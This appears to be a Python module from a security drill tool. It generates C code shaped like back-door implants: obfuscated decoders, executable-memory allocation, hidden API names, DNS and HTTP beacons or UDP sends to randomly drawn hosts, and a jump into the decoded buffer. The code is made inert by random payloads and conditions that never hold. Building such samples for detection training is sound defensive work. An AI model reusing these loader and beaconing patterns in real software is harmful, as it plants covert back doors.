"""C code shaped like native back doors, inert: random blob, decoder, memory, exit, behind a dead condition."""

# ruff: noqa: E501, ISC004 -- templates of another language keep their own lines

from __future__ import annotations

import re
from dataclasses import dataclass

from doorward.drill.chance import Chance, Names

__all__ = ["CImplant", "decode_statement", "draw_implant"]

_DECODES = (
    "for (i = 0; i < n; i++) p[i] = q[i] ^ k[i % KEYLEN];",
    "unsigned s = SEED; for (i = 0; i < n; i++) { s = s * 1103515245u + 12345u; p[i] = q[i] ^ (unsigned char)(s >> 24); }",
    "unsigned char a = BYTE; for (i = 0; i < n; i++) { p[i] = (unsigned char)(q[i] - a); a = (unsigned char)(a + q[i]); }",
    "unsigned s = SEED; for (i = 0; i < n; i++) { p[i] = q[i] ^ (unsigned char)s; "
    "s = ((s * 0xc9bed351u) >> 16 | s << 16) + 0xa5u; }",
    "unsigned char b[256], t; unsigned x = 0, y = 0; for (i = 0; i < 256; i++) b[i] = (unsigned char)i; "
    "for (i = 0; i < 256; i++) { x = (x + b[i] + k[i % KEYLEN]) & 255; t = b[i]; b[i] = b[x]; b[x] = t; } "
    "for (i = 0, x = 0; i < n; i++) { x = (x + 1) & 255; y = (y + b[x]) & 255; t = b[x]; b[x] = b[y]; b[y] = t; "
    "p[i] = q[i] ^ b[(b[x] + b[y]) & 255]; }",
    "unsigned *w = (unsigned *)p, u, v, m, r; memcpy(p, q, n); for (i = 0; i + 1 < n / 4; i += 2) { u = w[i]; v = w[i + 1]; "
    "m = 0xC6EF3720u; for (r = 0; r < 32; r++) { v -= ((u << 4) + SEED) ^ (u + m) ^ (u >> 5); "
    "u -= ((v << 4) + BYTE) ^ (v + m) ^ (v >> 5); m -= 0x9E3779B9u; } w[i] = u; w[i + 1] = v; }",
)
_WINDOWS_MEMORY = (
    "p = VirtualAlloc(NULL, n, MEM_COMMIT | MEM_RESERVE, PAGE_EXECUTE_READWRITE);",
    "{ DWORD o; p = VirtualAlloc(NULL, n, MEM_COMMIT, PAGE_READWRITE); VirtualProtect(p, n, PAGE_EXECUTE_READ, &o); }",
    "p = HeapAlloc(HeapCreate(HEAP_CREATE_ENABLE_EXECUTE, 0, 0), 0, n);",
    "{ HANDLE m = CreateFileMappingA(INVALID_HANDLE_VALUE, NULL, PAGE_EXECUTE_READWRITE, 0, n, NULL); "
    "p = MapViewOfFile(m, FILE_MAP_WRITE | FILE_MAP_EXECUTE, 0, 0, n); }",
    "p = ((unsigned char *(WINAPI *)(void *, SIZE_T, DWORD, DWORD))(void *)GetProcAddress(GetModuleHandleA(HIDDENMOD), "
    "HIDDENFN))(NULL, n, 0x3000, 0x40);",
)
_LINUX_MEMORY = (
    "p = mmap(NULL, n, PROT_READ | PROT_WRITE | PROT_EXEC, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);",
    "p = mmap(NULL, n, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0); mprotect(p, n, PROT_READ | PROT_EXEC);",
    "p = ((unsigned char *(*)(void *, size_t, int, int, int, long))dlsym(NULL, HIDDENFN))(NULL, n, 7, 0x22, -1, 0);",
    "p = (unsigned char *)syscall(SYS_mmap, NULL, n, 7, 0x22, -1, 0);",
)
_WINDOWS_EXITS = (
    ("#include <windns.h>", "{ PDNS_RECORD r; DnsQuery_A(HOST, DNS_TYPE_TEXT, DNS_QUERY_STANDARD, NULL, &r, NULL); }", "-ldnsapi"),
    ("", "{ WSADATA w; WSAStartup(0x202, &w); gethostbyname(HOST); }", "-lws2_32"),
    ("", "{ SOCKET s = socket(2, 2, 17); struct sockaddr_in a = {0}; a.sin_family = 2; a.sin_port = 0x3500; "
     "a.sin_addr.s_addr = inet_addr(ADDRESS); sendto(s, (char *)p, 64, 0, (struct sockaddr *)&a, sizeof a); }", "-lws2_32"),
    ("#include <wininet.h>", "{ HINTERNET h = InternetOpenA(AGENT, 0, NULL, NULL, 0); "
     "InternetOpenUrlA(h, URL, NULL, 0, INTERNET_FLAG_RELOAD, 0); }", "-lwininet"),
    ("#include <winhttp.h>", '{ HINTERNET h = WinHttpOpen(L"x", 0, NULL, NULL, 0); WinHttpConnect(h, WHOST, 443, 0); }', "-lwinhttp"),
)  # fmt: skip
_LINUX_EXITS = (
    ("#include <netdb.h>", "{ struct addrinfo *r; getaddrinfo(HOST, NULL, NULL, &r); }", ""),
    ("#include <netdb.h>", "gethostbyname(HOST);", ""),
    ("#include <sys/socket.h>\n#include <arpa/inet.h>", "{ struct sockaddr_in a = {0}; int s = socket(2, SOCK_DGRAM, 0); "
     "a.sin_family = 2; a.sin_port = htons(53); inet_pton(2, ADDRESS, &a.sin_addr); "
     "sendto(s, p, 64, 0, (struct sockaddr *)&a, sizeof a); }", ""),
    ("#include <resolv.h>\n#include <arpa/nameser.h>", "res_query(HOST, ns_c_in, ns_t_txt, p, 512);", "-lresolv"),
    ("", '{ FILE *f = popen(COMMAND, "r"); if (f) pclose(f); }', ""),
)  # fmt: skip
_WINDOWS_HEAD = (
    "#define WIN32_LEAN_AND_MEAN\n#include <winsock2.h>\n#include <ws2tcpip.h>\n#include <windows.h>"
)
_LINUX_HEAD = "#include <dlfcn.h>\n#include <sys/mman.h>\n#include <sys/syscall.h>\n#include <unistd.h>\n#include <time.h>"
_WINDOWS_DEAD = (
    "GetTickCount64() > (1ULL << 62)",
    "GetModuleHandleA(WORD) != NULL && GetLastError() == 0x7ffffff1",
    "(GetCurrentProcessId() & 3) == 3 && GetTickCount() == 1",
    "gate > 0x7ffffff0",
)
_LINUX_DEAD = (
    "time(NULL) < 1000",
    "getpid() < 0",
    "access(WORD, 0) == 0 && time(NULL) < 1",
    "gate > 0x7ffffff0",
)


@dataclass(frozen=True, slots=True)
class CImplant:
    """Pieces to compile into a library."""

    head: str
    body: str
    call: str
    """A statement that reaches it from an existing function."""
    function: str
    """Its name, taking nothing."""
    links: tuple[str, ...]


def _array(data: bytes) -> str:
    rows = [", ".join(f"0x{byte:02x}" for byte in data[i : i + 16]) for i in range(0, len(data), 16)]
    return ",\n    ".join(rows)


def _hidden(chance: Chance, text: str) -> str:
    """A short C string, plain or as a compound literal of its characters."""
    if chance.maybe(0.5):
        return f'"{text}"'
    return "(char[]){" + ", ".join(str(ord(c)) for c in text) + ", 0}"


def decode_statement(chance: Chance) -> str:
    """Statements that decode `n` bytes from `q` to `p` with key `k`, without calling anything."""
    text = chance.pick(tuple(text for text in _DECODES if "memcpy" not in text))
    text = text.replace("KEYLEN", str(chance.number(4, 32))).replace("BYTE", str(chance.number(1, 255)))
    return text.replace("SEED", f"{chance.number(1 << 16, (1 << 32) - 1):#x}u")


def draw_implant(chance: Chance, *, windows: bool, blob: str = "", size: int = 0) -> CImplant:
    """An inert back door in C.

    Args:
        chance: the choices.
        windows: for Windows; else for Linux.
        blob: an expression for the encrypted bytes, if they stand elsewhere (a resource).
        size: how many bytes that is.
    """
    names = Names(chance, chance.pick(("snake", "camel", "short", "hex")))
    include, exit_code, link = chance.pick(_WINDOWS_EXITS if windows else _LINUX_EXITS)
    data = chance.blob(900, 9000)
    key = chance.blob(8, 32)
    memory = chance.pick(_WINDOWS_MEMORY if windows else _LINUX_MEMORY)
    host = chance.host()
    swaps = {
        "HIDDENMOD": _hidden(chance, "kernel32.dll"),
        "HIDDENFN": _hidden(chance, "VirtualAlloc" if windows else "mmap"),
        "WHOST": f'L"{host}"',
        "HOST": _hidden(chance, host),
        "ADDRESS": f'"{chance.address()}"',
        "AGENT": f'"{chance.word()}"',
        "URL": f'"https://{host}/{chance.word()}"',
        "COMMAND": f'"nslookup -type=txt {host}"',
        "KEYLEN": str(len(key)),
        "SEED": f"{chance.number(1 << 16, (1 << 32) - 1):#x}u",
        "BYTE": str(chance.number(1, 255)),
        "WORD": f'"{chance.word()}{chance.number(10, 99)}"',
    }
    storage = chance.pick(("static const", "static", "const"))
    source = blob or names["blob"]
    dead = chance.pick(_WINDOWS_DEAD if windows else _LINUX_DEAD)
    text = f"""{"" if blob else f"{storage} unsigned char {names['blob']}[] = {{{_array(data)}}};"}
static const unsigned char {names["key"]}[] = {{{_array(key)}}};
static volatile int gate;

__attribute__((noinline)) static void {names["main"]}(void) {{
    unsigned n = {size or len(data)}u, i;
    unsigned char *p = NULL;
    const unsigned char *q = {source}, *k = {names["key"]};
    if (!({dead})) return;
    {memory}
    if (!p || !q || !k[0]) return;
    {{ {chance.pick(_DECODES)} }}
    {exit_code}
    ((void (*)(void))p)();
}}"""
    text = re.sub(rf"\b({'|'.join(swaps)})\b", lambda match: swaps[match[1]], text)
    head = "\n".join((_WINDOWS_HEAD if windows else _LINUX_HEAD, include))
    return CImplant(head, text, f"{names['main']}();", names["main"], (link,) if link else ())
